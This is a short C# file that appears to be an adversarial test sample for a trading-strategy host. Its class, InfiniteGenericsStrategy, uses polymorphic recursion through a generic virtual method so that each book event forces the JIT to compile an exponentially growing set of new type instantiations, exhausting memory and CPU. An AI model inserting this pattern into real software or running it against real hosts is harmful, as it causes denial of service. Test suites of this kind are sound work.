// Abuses: polymorphic recursion: each call needs a new instantiation of a generic virtual method, which the JIT must make.
// Harm: a preparer that closes over instantiations never ends; on the hot thread each event compiles and leaks types.
// Kind: memory/CPU.
using System;
using System.Collections.Generic;
using System.Linq;
using System.Threading;
using Strategies.Sdk;

namespace Attacks.InfiniteGenericsAttack;

public sealed class InfiniteGenericsStrategy : Attacker
{
    private readonly struct Pair<T, U>;

    private abstract class Visitor
    {
        public abstract long Visit<T>(int depth);
    }

    private sealed class Deeper : Visitor
    {
        public override long Visit<T>(int depth) => depth == 0 ? 1 : Visit<Pair<T, List<T>>>(depth - 1) + Visit<Pair<List<T>, T>>(depth - 1);
    }

    private readonly Visitor _visitor = new Deeper();

    public override void OnBook(in BookEvent bookEvent) => Act(_visitor.Visit<int>(12));
}
